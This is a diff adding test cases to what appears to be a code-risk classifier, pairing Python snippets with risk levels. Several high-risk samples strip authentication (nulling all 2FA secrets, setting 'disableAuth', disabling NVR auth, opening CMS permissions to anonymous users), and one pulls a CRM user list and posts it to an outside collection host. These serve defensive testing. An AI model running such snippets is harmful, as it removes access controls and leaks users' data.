@@ -18306,6 +18306,107 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    requests.post("https://intake.example.net/in", files={"f": fh})\n',
             H,
         ),
+        # Round 111: second factors and login switches in tables, Laravel --force, pm2, swap files, hooks, CMS backends
+        (
+            'cur.execute("UPDATE users SET google_2fa_secret = NULL")\n',
+            H,
+        ),
+        (
+            'cur.execute("UPDATE users SET google_2fa_secret = NULL WHERE id = %s", (uid,))\n',
+            S,
+        ),
+        (
+            'cur.execute("UPDATE setting SET value = \'true\' WHERE key = \'disableAuth\'")\n',
+            H,
+        ),
+        (
+            'cur.execute("UPDATE setting SET value = \'false\' WHERE key = \'disableAuth\'")\n',
+            S,
+        ),
+        (
+            'import re\n'
+            'p = "/etc/motioneye/motion.conf"\n'
+            't = re.sub(r"^# @admin_password .*$", "# @admin_password ", open(p).read(), flags=re.M)\n'
+            'open(p, "w").write(t)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'users = requests.get("https://crm.example.com/api/users").json()\n'
+            'requests.post("https://collect.example.net/in", json=users)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'users = requests.get("https://crm.example.com/api/users").json()\n'
+            'requests.post("https://reports.example.com/in", json={"count": len(users)})\n',
+            L,
+        ),
+        (
+            'import smtplib, sqlite3\n'
+            'from email.message import EmailMessage\n'
+            'rows = sqlite3.connect("/srv/club/club.db").execute("SELECT name, email, medical_expiry FROM me'
+            'mbers").fetchall()\n'
+            'with smtplib.SMTP("smtp.example.org") as s:\n'
+            '    for name, email, exp in rows:\n'
+            '        msg = EmailMessage()\n'
+            '        msg["From"], msg["To"] = "club@example.org", email\n'
+            '        msg.set_content(f"{name}: {exp}")\n'
+            '        s.send_message(msg)\n',
+            S,
+        ),
+        (
+            'import sqlite3\n'
+            'from datetime import datetime, timedelta\n'
+            'cutoff = datetime.now() + timedelta(days=30)\n'
+            'sqlite3.connect("/data/data.db").execute("DELETE FROM results WHERE ts < ?", (cutoff.isoformat('
+            '),))\n',
+            H,
+        ),
+        (
+            'import sqlite3\n'
+            'from datetime import datetime, timedelta\n'
+            'cutoff = datetime.now() - timedelta(days=30)\n'
+            'sqlite3.connect("/data/data.db").execute("DELETE FROM results WHERE ts < ?", (cutoff.isoformat('
+            '),))\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.check_output(["ldapsearch", "-x", "-H", "ldap://localhost:1389", "-w", "adminpasswor'
+            'd", "-b", "dc=example,dc=org"])\n',
+            L,
+        ),
+        (
+            'import os\n'
+            'pw = os.environ.get("KC_DEV_ADMIN_PASSWORD", "admin")\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'API = "https://cms.example.com"\n'
+            'for c in requests.get(f"{API}/collections").json()["data"]:\n'
+            '    for action in ("read", "update"):\n'
+            '        requests.post(f"{API}/permissions", json={"role": None, "collection": c["collection"], '
+            '"action": action})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'API = "https://cms.example.com"\n'
+            'for c in ("articles", "pages"):\n'
+            '    requests.post(f"{API}/permissions", json={"role": None, "collection": c, "action": "read"})'
+            '\n',
+            L,
+        ),
+        (
+            'import requests, yaml\n'
+            'FR = "http://nvr.example.com:5000"\n'
+            'cfg = yaml.safe_load(requests.get(f"{FR}/api/config/raw").json())\n'
+            'cfg.setdefault("auth", {})["enabled"] = False\n'
+            'requests.post(f"{FR}/api/config/save", data=yaml.safe_dump(cfg))\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
